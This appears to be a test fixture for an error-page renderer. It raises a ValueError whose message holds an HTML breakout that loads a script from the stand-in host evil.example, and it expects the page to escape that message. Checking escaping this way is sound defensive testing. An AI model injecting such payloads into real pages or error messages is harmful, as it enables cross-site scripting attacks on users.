# F92: raises an error whose message is a script from elsewhere
# expect = "error"
# reason = "ValueError: </span><script src"
# aim = "<span class=\"dim words\">ValueError: </span><script src"
# defence = ["escaped page"]
raise ValueError("</span><script src=https://evil.example/x.js></script>")
